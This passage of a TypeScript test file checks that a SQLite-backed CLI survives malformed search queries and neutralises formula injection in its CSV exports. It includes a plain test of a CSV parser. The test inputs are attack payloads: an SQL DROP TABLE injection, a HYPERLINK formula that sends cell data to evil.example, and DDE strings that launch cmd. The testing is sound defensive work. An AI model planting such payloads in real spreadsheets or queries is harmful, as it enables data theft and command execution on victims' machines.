    expect(app.db.prepare("SELECT count(*) AS n FROM sqlite_master WHERE name = 'entry_versions'").get()).toEqual({ n: 1 });

    // Through the CLI too: exit 0 (or a usage error, 2), never a crash or an SQLite message.
    for (const q of [`"`, `NEAR(稀土 技术)`, `*`, `(`, `name_text:稀土`, `'; DROP TABLE entry_versions; --`]) {
      const r = await runCli(['check', q, '--json'], { DATABASE_PATH: dbPath });
      expect([0, 2], `${q}: ${r.stderr}`).toContain(r.code);
      expect(r.stderr, q).not.toMatch(/fts5|SQLITE|syntax error|no such column/i);
    }
    expect(count()).toBe(before);
  });

  it('defuses spreadsheet formulas in every CSV export (cells starting with =, +, -, @, tab or CR)', async () => {
    const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", '-2+3', "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', '\r=1+1'];
    const keys = (
      app.db.prepare('SELECT key FROM entry_versions WHERE valid_to IS NULL ORDER BY key LIMIT ?').all(payloads.length) as Array<{ key: string }>
    ).map((r) => r.key);
    payloads.forEach((p, i) => poisonEntry(keys[i]!, p, [p]));
    // A change whose details carry a payload too, and a delivery whose destination does.
    app.db.prepare(`UPDATE changes SET after = json_set(coalesce(after, '{}'), '$.name', ?) WHERE id = (SELECT min(id) FROM changes)`).run(payloads[0]);
    const env = { DATABASE_PATH: dbPath };
    const entries = await runCli(['export', '--what', 'entries', '--format', 'csv'], env);
    const changes = await runCli(['export', '--what', 'changes', '--format', 'csv'], env);
    expect(entries.code, entries.stderr).toBe(0);
    expect(changes.code, changes.stderr).toBe(0);
    for (const csv of [entries.stdout, changes.stdout]) {
      for (const cell of parseCsv(csv).flat()) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
    }
    // The payloads are kept, visibly neutralised with a leading apostrophe.
    const cells = parseCsv(entries.stdout).flat();
    for (const p of payloads) expect(cells).toContain(`'${p}`);
    expect(parseCsv(changes.stdout).flat()).toContain(`'${payloads[0]}`);
  });
});

/** RFC 4180 parsing: quoted cells with doubled quotes and embedded newlines. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}
